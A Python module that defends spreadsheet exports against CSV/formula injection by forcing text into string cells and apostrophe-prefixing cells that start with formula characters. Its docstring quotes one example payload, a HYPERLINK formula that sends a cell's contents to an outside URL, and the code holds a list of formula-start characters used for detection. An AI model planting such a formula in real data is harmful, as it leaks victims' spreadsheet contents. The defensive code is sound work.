"""Safe spreadsheet exports: user text never becomes a formula.

Why: a title such as ``=HYPERLINK("https://…?d="&B2,"Öppna")`` written as a cell value turns into
a live formula when the export is opened (CSV/formula injection, OWASP). Two rules:

* XLSX: every text is written as a string cell (openpyxl would otherwise store a value starting
  with ``=`` as a formula); characters XML cannot hold are dropped.
* CSV: a cell a spreadsheet would read as a formula — starting with ``=``, ``+``, ``-``, ``@``,
  TAB or CR — is prefixed with ``'`` (OWASP's rule). So that the prefix never eats a real
  leading apostrophe, a cell that is ``'`` followed by such a cell is prefixed too, and
  :func:`unneutralise` (used by every CSV import) removes exactly one prefix again:
  ``unneutralise(neutralise(s)) == s`` for every text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _needs_prefix(text: str) -> bool:
    while text.startswith("'"):
        text = text[1:]
    return text.startswith(FORMULA_START)


def neutralise(text: str) -> str:
    """``=SUM(A1)`` → ``'=SUM(A1)``; harmless text unchanged."""
    return "'" + text if _needs_prefix(text) else text


def unneutralise(text: str) -> str:
    """Undo :func:`neutralise` (text that was not neutralised is unchanged)."""
    return text[1:] if text.startswith("'") and _needs_prefix(text[1:]) else text


def csv_cell(value: Any) -> str:
    """One CSV cell: numbers as plain digits with a decimal point, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nej"
    if isinstance(value, int | float | Decimal):
        return str(value)
    return neutralise(str(value))


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]], *, delimiter: str = ",") -> str:
    """A CSV document (RFC 4180: CRLF line ends, so a CR or LF inside a cell is quoted) whose
    every text cell is neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([csv_cell(h) for h in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return buffer.getvalue()


def xlsx_value(sheet: Any, value: Any) -> Any:
    """``value`` ready for ``sheet.append``: text becomes a string cell that is never a formula.

    Works for normal and write-only sheets (openpyxl's ``WriteOnlyCell``).
    """
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
    cell.data_type = "s"
    return cell


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` with every text as a string cell (see :func:`xlsx_value`)."""
    return [xlsx_value(sheet, value) for value in values]


def set_text(cell: Any, value: str) -> None:
    """Put ``value`` in an existing cell as a string (never a formula)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.data_type = "s"
